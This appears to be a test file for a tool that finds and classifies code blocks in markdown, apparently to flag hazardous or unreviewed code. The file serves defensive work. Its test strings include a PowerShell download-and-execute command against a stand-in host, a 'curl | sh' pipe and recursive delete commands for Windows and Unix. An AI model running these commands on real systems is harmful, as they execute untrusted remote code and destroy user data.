import assert from 'node:assert/strict';
import { test } from 'node:test';
import { markdownCode, unreadBlocks } from '../../../src/code/markdown/block-code.ts';

const code = (text: string): string[] =>
  markdownCode(text).map(({ line, language, text: inner }) => `${line} ${language}: ${inner.trim()}`);

test('a program under the name of data is read', () => {
  const program = 'import os\nos.remove("x")';
  for (const info of ['json', 'yaml', 'toml', 'xml', 'csv', 'html'])
    assert.deepEqual(code(`\`\`\`${info}\n${program}\n\`\`\``), [`2 python: ${program}`], info);
});

test('data is none, whatever its strings say', () => {
  const blocks = [
    '```json\n["import os", "def f(): pass"]\n```',
    '```json\n{\n  "a": "import os"\n}\n```',
    '```yaml\nkey: import os\nimport os: 1\n```',
    '```toml\nname = "x"\nversion = "1"\n```',
    '```xml\n<a>rm -rf /</a>\n```',
  ];
  for (const block of blocks) assert.deepEqual(code(block), [], block);
});

test('prompts of Windows are prompts', () => {
  assert.deepEqual(code('```\nPS C:\\Users\\me> iex (irm http://a.example/x)\nDone.\n```'), [
    '2 shell: iex (irm http://a.example/x)',
  ]);
  assert.deepEqual(code('```\nC:\\> del /f /s /q C:\\Users\n```'), ['2 shell: del /f /s /q C:\\Users']);
  assert.deepEqual(code('```sh\n$HOME/bin/tool\n$ ls\n```'), ['2 shell: $HOME/bin/tool\nls']);
});

test('a step of a workflow holds a command', () => {
  assert.deepEqual(code('```yaml\n- run: curl x | sh\n```'), ['2 shell: curl x | sh']);
});

test('programs that nobody reads are told where they are about to be run', () => {
  const text = '```js\nrun()\n```\n\n```json\n{}\n```\n\n```rust\nfn main() {}\n```\n\n```js\n```\n';
  assert.deepEqual(
    unreadBlocks(text, 'generated').map(({ where, hazard, evidence }) => [where.line, hazard, evidence]),
    [
      [2, 'language-not-read', 'block of js'],
      [10, 'language-not-read', 'block of rust'],
    ],
  );
  assert.deepEqual(unreadBlocks(text, 'repository'), []);
});
